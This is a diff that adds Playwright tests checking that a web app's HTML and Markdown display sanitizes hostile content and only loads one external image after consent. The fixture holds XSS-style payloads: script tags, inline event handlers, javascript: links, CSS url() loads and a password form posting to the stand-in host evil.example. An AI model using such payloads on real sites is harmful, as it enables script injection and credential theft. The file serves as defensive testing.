@@ -90,6 +90,79 @@ test("HTML that a query returns runs nothing and is nobody: its origin is opaque
   expect(await page.locator("h1").evaluate(() => `${self.origin}`)).toBe("null");
 });
 
+const ELSEWHERE = "https://evil.example";
+
+/** Whatever acts, reaches out or dresses up: and one picture, which a person may agree to. */
+const REACHING = `
+<form action="${ELSEWHERE}/form"><input name="password" autofocus><button>Go on</button></form>
+<iframe src="${ELSEWHERE}/frame"></iframe><object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed">
+<link rel="stylesheet" href="${ELSEWHERE}/style.css"><base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/meta">
+<style>@import url("${ELSEWHERE}/import.css"); * { background: url("${ELSEWHERE}/style.png") }</style>
+<video src="${ELSEWHERE}/video.mp4" poster="${ELSEWHERE}/poster.png"></video><audio src="${ELSEWHERE}/audio.mp3"></audio>
+<p style="background: url('${ELSEWHERE}/inline.png'); position: fixed; inset: 0" onclick="window.ran = 1" id="root">words</p>
+<svg onload="window.ran = 1"><image href="${ELSEWHERE}/svg.png"/><a href="javascript:window.ran = 1"><text>drawn</text></a></svg>
+<a href="javascript:window.ran = 1" onmouseover="window.ran = 1">press</a>
+<script>window.ran = 1</script><script src="${ELSEWHERE}/script.js"></script>
+<img src="${ELSEWHERE}/picture.png" srcset="${ELSEWHERE}/large.png 2x" alt="a picture" onerror="window.ran = 1" onload="window.ran = 1">
+`;
+
+/** Where it is cleaned it is part of no page, and the policy speaks all the same. */
+const REFUSED = [/Content Security Policy/];
+
+for (const [what, shown] of [
+  ["HTML", `io.display.html("Letter", { html: ${JSON.stringify(REACHING)} })`],
+  [
+    "Markdown",
+    `io.display.markdown(${JSON.stringify(`# Letter\n\n[press too](javascript:window.ran=1)\n\n${REACHING}`)})`,
+  ],
+]) {
+  test(`hostile ${what} of an action does nothing, and loads its one picture for who agrees`, async ({
+    page,
+    voice,
+  }) => {
+    const asked: string[] = [];
+    await page.route(`${ELSEWHERE}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: "image/svg+xml", body: '<svg xmlns="http://www.w3.org/2000/svg"/>' });
+    });
+    await beGuest(page);
+    const code = `export const actions = { letter: async (io) => { await ${shown}; return io.input.text("Read?"); } };`;
+    await makeHook(page, { code: code.replaceAll("<", "\\u003c") });
+    await voice.expecting(REFUSED, async () => {
+      await page.goto("/a/letter");
+      await expect(page.getByLabel("Read?")).toBeVisible();
+    });
+    const main = page.getByRole("main");
+    await expect(main.getByText("words", { exact: true })).toBeVisible();
+
+    const held = async () => {
+      await expect(
+        main.locator("iframe, object, embed, link, base, meta, style, script, video, audio, svg image"),
+      ).toHaveCount(0);
+      await expect(main.locator("form[action], input[name=password], button:text-is('Go on')")).toHaveCount(0);
+      const attributes = await main.evaluate((main) =>
+        [...main.querySelectorAll("*")].flatMap(({ attributes }) =>
+          [...attributes].map(({ name, value }) => `${name}=${value}`),
+        ),
+      );
+      expect(attributes.filter((one) => /^on|=\s*javascript:|^srcset=|url\(|^id=root$/i.test(one))).toEqual([]);
+      for (const words of what === "HTML" ? ["press"] : ["press", "press too"])
+        await main.getByText(words, { exact: true }).click();
+      expect(await page.evaluate(() => (window as { ran?: unknown }).ran)).toBeUndefined();
+      await expect(page).toHaveURL(/\/r\//);
+    };
+    await held();
+    expect(asked, "nobody agreed").toEqual([]);
+    await voice.expecting(REFUSED, async () => {
+      await main.getByRole("button", { name: "Load images from evil.example" }).click();
+      await expect(main.getByRole("img", { name: "a picture" })).toBeAttached();
+      await expect.poll(() => asked).toEqual([`${ELSEWHERE}/picture.png`]);
+      await held();
+    });
+    expect(asked).toHaveLength(1);
+  });
+}
+
 test("the pages run nothing but their own files", async ({ page }) => {
   await beGuest(page);
   const made = await makeHook(page);
